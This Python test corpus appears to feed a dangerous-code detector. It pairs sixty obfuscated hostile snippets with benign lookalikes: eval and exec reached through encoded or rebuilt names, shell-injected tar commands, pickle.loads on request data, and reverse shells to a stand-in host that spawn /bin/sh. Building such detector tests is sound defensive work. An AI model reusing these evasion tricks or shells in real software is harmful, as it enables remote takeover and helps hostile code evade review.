"""Ten disguises of each of six dangerous calls, each beside code that only reads like it."""

from __future__ import annotations

from textwrap import dedent

from tests.corpus import Case

_SHOP = {
    "pyproject.toml": '[project]\nname = "shop"\nrequires-python = ">=3.11"\n',
    "shop/__init__.py": "",
    "shop/cart.py": "def total(items):\n    return sum(items)\n",
}
_EVAL = {
    "letters-by-number": (
        """
        import builtins

        def total(text):
            return getattr(builtins, "".join(chr(n) for n in (101, 118, 97, 108)))(text)
        """,
        """
        def columns(count):
            return ", ".join(chr(n) for n in range(65, 65 + count))
        """,
    ),
    "rotated-letters": (
        """
        import codecs

        def total(text):
            return vars(__import__("builtins"))[codecs.decode("riny", "rot13")](text)
        """,
        """
        import codecs

        def spoiler(text):
            return codecs.encode(text, "rot13")
        """,
    ),
    "name-grown-in-a-loop": (
        """
        import builtins

        word = ""
        for letter in "lave":
            word = letter + word

        def total(text):
            return getattr(builtins, word)(text)
        """,
        """
        line = ""
        for letter in "abc":
            line = letter + line

        def mirrored():
            return line
        """,
    ),
    "letters-translated": (
        """
        SIGNS = str.maketrans("1234", "eval")

        def total(text):
            return __builtins__.__dict__["1234".translate(SIGNS)](text)
        """,
        """
        SIGNS = str.maketrans(",.", ".,")

        def price(text):
            return float(text.translate(SIGNS))
        """,
    ),
    "through-the-class-tree": (
        """
        def total(text):
            for kind in ().__class__.__base__.__subclasses__():
                if kind.__name__ == "catch_warnings":
                    return kind()._module.__builtins__["ev" + "al"](text)
        """,
        """
        def kinds(base):
            return sorted(kind.__name__ for kind in base.__subclasses__())
        """,
    ),
    "put-where-a-reader-was": (
        """
        import json

        json.loads = eval

        def total(text):
            return json.loads(text)
        """,
        """
        import json

        load = json.loads

        def total(text):
            return load(text)["total"]
        """,
    ),
    "as-a-decorator": (
        """
        def total(text):
            @eval
            def answer():
                return text

            return answer
        """,
        """
        def total(items):
            @sorted
            def by_size():
                return items

            return by_size
        """,
    ),
    "as-a-sorting-key": (
        """
        def total(texts):
            return sorted(texts, key=eval)
        """,
        """
        def total(texts):
            return sorted(texts, key=len)
        """,
    ),
    "by-the-frame": (
        """
        import sys

        def total(text):
            return sys._getframe().f_builtins["ev%s" % "al"](text)
        """,
        """
        import sys

        def caller():
            return sys._getframe(1).f_code.co_name
        """,
    ),
    "captured-by-a-pattern": (
        """
        def total(text):
            match {"run": eval}:
                case {"run": run}:
                    return run(text)
        """,
        """
        def total(order):
            match order:
                case {"items": items}:
                    return sum(items)
        """,
    ),
}
_EXEC = {
    "number-as-letters": (
        """
        def load(text):
            name = (1702389091).to_bytes(4, "big").decode()
            getattr(__builtins__, name)(text)
        """,
        """
        def header(size):
            return (size).to_bytes(4, "big")
        """,
    ),
    "bytes-turned-by-a-key": (
        """
        import builtins

        def plain(data, key):
            text = ""
            for place, value in enumerate(data):
                text += chr(value ^ (key + place))
            return text

        def load(text):
            getattr(builtins, plain(b"\\x60~bj", 5))(text)
        """,
        """
        def checksum(data, key):
            text = 0
            for place, value in enumerate(data):
                text ^= value ^ (key + place)
            return text
        """,
    ),
    "looked-up-by-steps": (
        """
        import builtins
        from functools import reduce

        def load(text):
            reduce(getattr, ["exec"], builtins)(text)
        """,
        """
        from functools import reduce

        def load(record):
            return reduce(getattr, ["owner", "name"], record)
        """,
    ),
    "method-caller": (
        """
        import builtins
        import operator

        def load(text):
            operator.methodcaller("ex" "ec", text)(builtins)
        """,
        """
        import operator

        def load(texts):
            return list(map(operator.methodcaller("strip"), texts))
        """,
    ),
    "handed-to-a-thread": (
        """
        import threading

        def load(text):
            threading.Timer(1, exec, [text]).start()
        """,
        """
        import threading

        def load(text):
            threading.Timer(1, print, [text]).start()
        """,
    ),
    "found-among-all": (
        """
        import sys

        def load(text):
            sys.modules["built" + "ins"].__getattribute__("exec")(text)
        """,
        """
        import sys

        def loaded(name):
            return name in sys.modules
        """,
    ),
    "kept-in-a-field": (
        """
        class Engine:
            def __init__(self, run=exec):
                self.run = run

            def load(self, text):
                self.run(text)
        """,
        """
        class Engine:
            def __init__(self, run=print):
                self.run = run

            def load(self, text):
                self.run(text)
        """,
    ),
    "in-full-width-letters": (
        """
        def load(text):
            \uff45\uff58\uff45\uff43(text)
        """,
        """
        def load(größe):
            return print(größe)
        """,
    ),
    "from-percent-signs": (
        """
        from urllib.parse import unquote

        def load(text):
            getattr(__builtins__, unquote("%65%78%65%63"))(text)
        """,
        """
        from urllib.parse import unquote

        def load(path):
            return unquote(path).strip("/")
        """,
    ),
    "behind-a-fallback": (
        """
        try:
            from shop.fast import run
        except ImportError:
            run = exec

        def load(text):
            run(text)
        """,
        """
        try:
            import ujson as json
        except ImportError:
            import json

        def load(text):
            return json.loads(text)
        """,
    ),
}
_SYSTEM = {
    "spelled-backwards": (
        """
        import os

        def pack(path):
            getattr(os, "metsys"[::-1])("tar -cf x.tar " + path)
        """,
        """
        import os

        def pack(path, kind="path"):
            return getattr(os, "sep")
        """,
    ),
    "dictionary-of-the-module": (
        """
        import os

        def pack(path):
            vars(os).get("sys" + "tem")("tar -cf x.tar " + path)
        """,
        """
        def pack(path, options):
            return vars(options).get("output") or path
        """,
    ),
    "another-modules-os": (
        """
        import shutil

        def pack(path):
            shutil.os.system("tar -cf x.tar " + path)
        """,
        """
        import shutil

        def pack(path):
            return shutil.make_archive("x", "tar", path)
        """,
    ),
    "named-by-a-path": (
        """
        def find(path):
            module, _, name = path.rpartition(".")
            return getattr(__import__(module), name)

        def pack(path):
            find("os.system")("tar -cf x.tar " + path)
        """,
        """
        def extension(path):
            stem, _, name = path.rpartition(".")
            return getattr(path, "suffix", name) or stem
        """,
    ),
    "from-a-spec": (
        """
        import importlib.util

        def pack(path):
            spec = importlib.util.find_spec("o" + "s")
            module = importlib.util.module_from_spec(spec)
            module.system("tar -cf x.tar " + path)
        """,
        """
        import importlib.util

        def has_numpy():
            return importlib.util.find_spec("numpy") is not None
        """,
    ),
    "several-modules-at-once": (
        """
        import importlib

        j, o = map(importlib.import_module, ("json", "os"))

        def pack(path):
            o.system("tar -cf x.tar " + path)
        """,
        """
        import json
        import os

        j, o = json, os

        def pack(path):
            return o.path.join(path, j.dumps({}))
        """,
    ),
    "by-its-posix-name": (
        """
        from posix import system as tidy

        def pack(path):
            tidy("tar -cf x.tar " + path)
        """,
        """
        from posixpath import join as tidy

        def pack(path):
            return tidy(path, "x.tar")
        """,
    ),
    "static-method": (
        """
        import os

        class Packer:
            run = staticmethod(os.system)

        def pack(path):
            Packer().run("tar -cf x.tar " + path)
        """,
        """
        import os

        class Packer:
            run = staticmethod(os.fspath)

        def pack(path):
            return Packer().run(path)
        """,
    ),
    "list-of-pieces": (
        """
        import os

        pieces = []
        pieces.append("sys")
        pieces.append("tem")

        def pack(path):
            os.__getattribute__("".join(pieces))("tar -cf x.tar " + path)
        """,
        """
        pieces = []
        pieces.append("tar")
        pieces.append("gz")

        def pack(path):
            return path + "." + ".".join(pieces)
        """,
    ),
    "at-exit": (
        """
        import atexit
        import os

        def pack(path):
            atexit.register(os.system, "tar -cf x.tar " + path)
        """,
        """
        import atexit
        import logging

        def pack(path):
            atexit.register(logging.shutdown)
        """,
    ),
}
_SHELL = {
    "keyword-in-pieces": (
        """
        import subprocess

        def pack(path):
            subprocess.run("tar -cf x.tar " + path, **{"sh" + "ell": True})
        """,
        """
        import subprocess

        def pack(path):
            subprocess.run(["tar", "-cf", "x.tar", path], **{"che" + "ck": True})
        """,
    ),
    "options-put-in-later": (
        """
        import subprocess

        def pack(path, folder):
            options = {"cwd": folder}
            options["shell"] = True
            subprocess.run("tar -cf x.tar " + path, **options)
        """,
        """
        import subprocess

        def pack(path, folder):
            options = {"cwd": folder}
            options["check"] = True
            subprocess.run(["tar", "-cf", "x.tar", path], **options)
        """,
    ),
    "options-spread-twice": (
        """
        import subprocess

        BASE = {"shell": 1}
        MORE = {**BASE, "check": True}

        def pack(path):
            subprocess.run("tar -cf x.tar " + path, **MORE)
        """,
        """
        import subprocess

        BASE = {"text": 1}
        MORE = {**BASE, "check": True}

        def pack(path):
            subprocess.run(["tar", "-cf", "x.tar", path], **MORE)
        """,
    ),
    "passed-through": (
        """
        import subprocess

        def run(command, **options):
            return subprocess.run(command, **options)

        def pack(path):
            run("tar -cf x.tar " + path, shell=True)
        """,
        """
        import subprocess

        def run(command, **options):
            return subprocess.run(command, **options)

        def pack(path):
            run(["tar", "-cf", "x.tar", path], check=True)
        """,
    ),
    "partial": (
        """
        import functools
        import subprocess

        quick = functools.partial(subprocess.Popen, shell=not False)

        def pack(path):
            quick("tar -cf x.tar " + path)
        """,
        """
        import functools
        import subprocess

        quick = functools.partial(subprocess.Popen, close_fds=True)

        def pack(path):
            quick(["tar", "-cf", "x.tar", path])
        """,
    ),
    "method-caller": (
        """
        import operator
        import subprocess

        def pack(path):
            operator.methodcaller("run", "tar -cf x.tar " + path, shell=True)(subprocess)
        """,
        """
        import operator

        def pack(paths):
            return list(map(operator.methodcaller("rstrip", "/"), paths))
        """,
    ),
    "computed-truth": (
        """
        import subprocess

        def pack(path):
            subprocess.check_call("tar -cf x.tar " + path, shell=len("x") == 1)
        """,
        """
        import subprocess

        def pack(path):
            subprocess.check_call(["tar", "-cf", "x.tar", path], shell=False)
        """,
    ),
    "own-kind-of-process": (
        """
        import subprocess

        class Packer(subprocess.Popen):
            def __init__(self, path):
                super().__init__("tar -cf x.tar " + path, shell=True)
        """,
        """
        import subprocess

        class Packer(subprocess.Popen):
            def __init__(self, path):
                super().__init__(["tar", "-cf", "x.tar", path])
        """,
    ),
    "ninth-argument": (
        """
        import subprocess

        def pack(path):
            quick = getattr(subprocess, "Pop" "en")
            quick("tar -cf x.tar " + path, -1, None, None, None, None, None, True, True)
        """,
        """
        import subprocess

        def pack(path):
            quick = subprocess.Popen
            quick(["tar", "-cf", "x.tar", path], -1, None, None, None, None, None, True)
        """,
    ),
    "handed-to-a-lambda": (
        """
        import subprocess

        def pack(path):
            return (lambda run: run("tar -cf x.tar " + path, shell=True))(subprocess.call)
        """,
        """
        import subprocess

        def pack(path):
            return (lambda run: run(["tar", "-cf", "x.tar", path]))(subprocess.call)
        """,
    ),
}
_PICKLE = {
    "in-two-pieces": (
        """
        from flask import request

        def basket():
            return getattr(__import__("pick" + "le"), "lo" + "ads")(request.data)
        """,
        """
        import json

        from flask import request

        def basket():
            return getattr(json, "loads")(request.data)
        """,
    ),
    "backwards": (
        """
        import importlib

        from flask import request

        def basket():
            return getattr(importlib.import_module("pickle"), "sdaol"[::-1])(request.get_data())
        """,
        """
        import json

        from flask import request

        def basket():
            return json.loads(request.get_data()[::-1])
        """,
    ),
    "under-anothers-name": (
        """
        import pickle as json

        from flask import request

        def basket():
            return json.loads(request.data)
        """,
        """
        import json

        from flask import request

        def basket():
            return json.loads(request.data)
        """,
    ),
    "by-the-c-module": (
        """
        import base64

        import _pickle

        from flask import request

        def basket():
            return _pickle.loads(base64.b64decode(request.cookies["basket"]))
        """,
        """
        import base64
        import json

        from flask import request

        def basket():
            return json.loads(base64.b64decode(request.cookies["basket"]))
        """,
    ),
    "kept-in-a-table": (
        """
        import json
        import pickle

        from flask import request

        READERS = {"json": json.loads, "binary": pickle.loads}

        def basket():
            return READERS["binary"](request.data)
        """,
        """
        import json

        from flask import request

        READERS = {"json": json.loads, "text": str}

        def basket():
            return READERS["json"](request.data)
        """,
    ),
    "static-method": (
        """
        import pickle

        from flask import request

        class Codec:
            read = staticmethod(pickle.loads)

        def basket():
            return Codec.read(request.data)
        """,
        """
        import json

        from flask import request

        class Codec:
            read = staticmethod(json.loads)

        def basket():
            return Codec.read(request.data)
        """,
    ),
    "partial": (
        """
        import functools
        import pickle

        from flask import request

        read = functools.partial(pickle.loads, encoding="bytes")

        def basket():
            return read(request.data)
        """,
        """
        import functools
        import json

        from flask import request

        read = functools.partial(json.loads, parse_float=str)

        def basket():
            return read(request.data)
        """,
    ),
    "through-the-modules": (
        """
        import sys
        import multiprocessing.reduction

        from flask import request

        def basket():
            return sys.modules["pickle"].loads(request.data)
        """,
        """
        import sys

        from flask import request

        def basket():
            return sys.getsizeof(request.data)
        """,
    ),
    "attribute-getter": (
        """
        import operator
        import pickle

        from flask import request

        def basket():
            return operator.attrgetter("loads")(pickle)(request.data)
        """,
        """
        import operator

        from flask import request

        def basket():
            return operator.attrgetter("data")(request)
        """,
    ),
    "name-grown-in-a-loop": (
        """
        import pickle

        from flask import request

        name = ""
        for letter in "sdaol":
            name = letter + name

        def basket():
            return getattr(pickle, name)(request.data)
        """,
        """
        from flask import request

        name = ""
        for letter in "stekcab":
            name = letter + name

        def basket():
            return {name: len(request.data)}
        """,
    ),
}
_HERE = '("host.invalid", 4444)'
_SOCKET = {
    "plainly": (
        f"""
        import os
        import socket

        def report():
            s = socket.create_connection({_HERE})
            for n in range(3):
                os.dup2(s.fileno(), n)
            os.execl("/bin/sh", "sh")
        """,
        f"""
        import socket

        def report(text):
            s = socket.create_connection({_HERE})
            s.sendall(text.encode())
        """,
    ),
    "by-imported-pieces": (
        f"""
        k, o = __import__("sock" + "et"), __import__("o" + "s")

        def report():
            s = k.socket()
            s.connect({_HERE})
            [o.dup2(s.fileno(), n) for n in (0, 1, 2)]
            getattr(o, "exec" + "v")("/bin/sh", ["sh"])
        """,
        """
        k = __import__("socket")

        def report():
            return k.gethostname()
        """,
    ),
    "handed-to-the-child": (
        f"""
        import socket
        import subprocess

        def report():
            s = socket.socket()
            s.connect({_HERE})
            subprocess.Popen(["/bin/sh"], stdin=s, stdout=s, stderr=s)
        """,
        """
        import subprocess

        def report(log):
            subprocess.Popen(["/bin/ls"], stdin=subprocess.DEVNULL, stdout=log, stderr=log)
        """,
    ),
    "line-by-line": (
        f"""
        import socket
        import subprocess

        def report():
            s = socket.create_connection({_HERE})
            while command := s.recv(1024):
                s.sendall(subprocess.run(command, shell=True, capture_output=True).stdout)
        """,
        f"""
        import socket

        def report():
            s = socket.create_connection({_HERE})
            while line := s.recv(1024):
                s.sendall(line.upper())
        """,
    ),
    "through-helpers": (
        f"""
        import socket
        import subprocess

        def opened():
            s = socket.socket()
            s.connect({_HERE})
            return s

        def answered(s, command):
            s.send(subprocess.check_output(command.decode().split()))

        def report():
            s = opened()
            while True:
                answered(s, s.recv(1024))
        """,
        f"""
        import socket

        def opened():
            s = socket.socket()
            s.connect({_HERE})
            return s

        def report():
            opened().send(b"ready")
        """,
    ),
    "a-terminal-of-its-own": (
        f"""
        import importlib

        k, o, p = map(importlib.import_module, ("socket", "os", "pty"))

        def report():
            s = k.create_connection({_HERE})
            for n in (0, 1, 2):
                o.dup2(s.fileno(), n)
            p.spawn("sh")
        """,
        """
        import os
        import sys

        def report(log):
            os.dup2(log.fileno(), sys.stderr.fileno())
        """,
    ),
    "asynchronously": (
        """
        import asyncio

        async def report():
            reader, writer = await asyncio.open_connection("host.invalid", 4444)
            while line := await reader.readline():
                done = await asyncio.create_subprocess_shell(line.decode(), stdout=-1)
                writer.write((await done.communicate())[0])
        """,
        """
        import asyncio

        async def report():
            reader, writer = await asyncio.open_connection("host.invalid", 4444)
            while line := await reader.readline():
                writer.write(line)
        """,
    ),
    "as-a-server": (
        """
        import os
        import socketserver

        class Handler(socketserver.StreamRequestHandler):
            def handle(self):
                for line in self.rfile:
                    self.wfile.write(os.popen(line.decode()).read().encode())
        """,
        """
        import socketserver

        class Handler(socketserver.StreamRequestHandler):
            def handle(self):
                for line in self.rfile:
                    self.wfile.write(line.upper())
        """,
    ),
    "with-stars": (
        f"""
        from os import *
        from socket import *

        def report():
            s = socket()
            s.connect({_HERE})
            for n in range(3):
                dup2(s.fileno(), n)
            execv("/bin/sh", ["sh"])
        """,
        """
        from os.path import *

        def report(path):
            return basename(path)
        """,
    ),
    "code-from-the-wire": (
        f"""
        import socket

        def report():
            s = socket.create_connection({_HERE})
            run = vars(__builtins__)["ex" + "ec"]
            run(s.makefile().read())
        """,
        f"""
        import json
        import socket

        def report():
            s = socket.create_connection({_HERE})
            return json.load(s.makefile())
        """,
    ),
}
_FAMILIES = {
    "eval": _EVAL,
    "exec": _EXEC,
    "system": _SYSTEM,
    "shell": _SHELL,
    "pickle": _PICKLE,
    "socket": _SOCKET,
}

CASES = [
    Case(
        f"{family}-{name}",
        _SHOP,
        {"shop/report.py": dedent(bad).lstrip()},
        {"shop/report.py": dedent(honest).lstrip()},
    )
    for family, cases in _FAMILIES.items()
    for name, (bad, honest) in cases.items()
]
